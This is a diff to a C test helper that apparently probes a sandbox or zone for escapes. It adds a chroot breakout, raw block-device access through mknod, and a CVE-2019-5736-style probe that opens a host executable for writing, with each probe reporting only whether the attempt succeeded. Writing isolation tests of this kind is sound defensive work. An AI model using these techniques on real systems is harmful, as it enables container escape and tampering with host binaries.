@@ -10,6 +10,19 @@
  *   escape reflink SRC DST COUNT   FICLONEs SRC to DST.0 .. DST.COUNT-1: "cloned N" or "reflink: ERRNO"
  *   escape subvol DIR NAME         BTRFS_IOC_SUBVOL_CREATE: "subvol: ok" or "subvol: ERRNO"
  *   escape snap SRC DIR NAME       BTRFS_IOC_SNAP_CREATE_V2 of SRC: "snap: ok" or "snap: ERRNO"
+ *   escape chroot MARKER           the classic chroot breakout (chroot into a subdirectory,
+ *                                  chdir .. 64 times, chroot .): "still inside" when MARKER
+ *                                  (a file only the zone has) is still there, else "escaped"
+ *   escape mknod MAJOR MINOR       makes a block device node and reads it: "mknod: ERRNO",
+ *                                  "open: ERRNO", "read: ERRNO" or "read: ok"
+ *   escape open PATH               opens PATH and reads it: "open: ERRNO", "read: ERRNO" or "read: ok"
+ *   escape hijack SECONDS          CVE-2019-5736's shape: waits for a process whose
+ *                                  executable is not in the zone (a host binary run in it,
+ *                                  or zlogin's child before its exec), stops it, holds its
+ *                                  executable (O_PATH), kills it and once it is gone opens
+ *                                  the executable
+ *                                  for writing: "hijack: ERRNO <path>", "hijack: opened <path>",
+ *                                  or "hijack: none" when no such process came
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -20,7 +33,11 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <dirent.h>
+#include <signal.h>
 #include <sys/ioctl.h>
+#include <sys/sysmacros.h>
+#include <time.h>
 #include <sys/stat.h>
 #include <sys/types.h>
 #include <unistd.h>
@@ -160,6 +177,106 @@ int main(int argc, char **argv)
 		int r = (src < 0 || dir < 0) ? -1 : ioctl(dir, SNAP_CREATE_V2, &a);
 		printf("snap: %s\n", r == 0 ? "ok" : strerrorname_np(errno));
 		return r == 0 ? 0 : 1;
+	}
+	if (!strcmp(cmd, "chroot") && argc == 3) {
+		mkdir("/tmp/chroot-breakout", 0755);
+		if (chroot("/tmp/chroot-breakout") != 0) {
+			printf("chroot: %s\n", strerrorname_np(errno));
+			return 1;
+		}
+		for (int i = 0; i < 64; i++)
+			if (chdir("..") != 0)
+				break;
+		if (chroot(".") != 0) {
+			printf("chroot .: %s\n", strerrorname_np(errno));
+			return 1;
+		}
+		struct stat st;
+		printf("%s\n", stat(argv[2], &st) == 0 ? "still inside" : "escaped");
+		return 0;
+	}
+	if (!strcmp(cmd, "mknod") && argc == 4) {
+		const char *node = "/tmp/escape-disk";
+		unlink(node);
+		if (mknod(node, S_IFBLK | 0600, makedev(atoi(argv[2]), atoi(argv[3]))) != 0) {
+			printf("mknod: %s\n", strerrorname_np(errno));
+			return 0;
+		}
+		int fd = open(node, O_RDONLY);
+		if (fd < 0) {
+			printf("open: %s\n", strerrorname_np(errno));
+			return 0;
+		}
+		char buf[512];
+		ssize_t n = read(fd, buf, sizeof buf);
+		printf("read: %s\n", n == (ssize_t)sizeof buf ? "ok" : strerrorname_np(errno));
+		return 0;
+	}
+	if (!strcmp(cmd, "open") && argc == 3) {
+		int fd = open(argv[2], O_RDONLY);
+		if (fd < 0) {
+			printf("open: %s\n", strerrorname_np(errno));
+			return 0;
+		}
+		char buf[16];
+		ssize_t n = read(fd, buf, sizeof buf);
+		printf("read: %s\n", n >= 0 ? "ok" : strerrorname_np(errno));
+		return 0;
+	}
+	if (!strcmp(cmd, "hijack") && argc == 3) {
+		time_t until = time(NULL) + atoi(argv[2]);
+		pid_t me = getpid();
+		while (time(NULL) < until) {
+			DIR *d = opendir("/proc");
+			struct dirent *e;
+			while (d && (e = readdir(d))) {
+				pid_t pid = (pid_t)atoi(e->d_name);
+				if (pid <= 1 || pid == me)
+					continue;
+				char link[64], exe[PATH_MAX];
+				snprintf(link, sizeof link, "/proc/%d/exe", pid);
+				ssize_t n = readlink(link, exe, sizeof exe - 1);
+				if (n < 0 && (errno == EACCES || errno == EPERM)) {
+					/* Not the zone's to look at: a process that entered
+					 * from the host (not dumpable), caught before its exec. */
+					printf("hijack: %s %s (readlink)\n", strerrorname_np(errno), link);
+					return 0;
+				}
+				if (n <= 0)
+					continue;
+				exe[n] = 0;
+				struct stat st;
+				if (stat(exe, &st) == 0)
+					continue; /* a file of the zone's */
+				/* Hold it still, take its executable, then end it. */
+				kill(pid, SIGSTOP);
+				int fd = open(link, O_PATH);
+				if (fd < 0) {
+					int e = errno;
+					kill(pid, SIGCONT);
+					printf("hijack: %s %s (O_PATH)\n", strerrorname_np(e), exe);
+					return 0;
+				}
+				kill(pid, SIGKILL);
+				/* Wait for the process to end: its text is then not busy. */
+				char dir[64];
+				snprintf(dir, sizeof dir, "/proc/%d", pid);
+				for (int i = 0; i < 500 && stat(dir, &st) == 0; i++)
+					usleep(10000);
+				char self[64];
+				snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+				int w = open(self, O_WRONLY);
+				if (w < 0)
+					printf("hijack: %s %s\n", strerrorname_np(errno), exe);
+				else
+					printf("hijack: opened %s\n", exe);
+				return 0;
+			}
+			if (d)
+				closedir(d);
+		}
+		printf("hijack: none\n");
+		return 0;
 	}
 	return usage();
 }
